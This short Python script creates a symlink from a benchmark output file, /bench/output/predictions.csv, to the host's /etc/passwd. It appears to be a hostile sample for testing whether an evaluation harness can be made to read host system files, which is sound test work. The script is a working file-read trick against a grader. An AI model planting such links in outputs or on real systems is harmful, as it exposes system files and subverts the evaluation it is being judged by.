"""Leaves a link to a file of the host."""

from pathlib import Path

Path("/bench/output/predictions.csv").symlink_to("/etc/passwd")
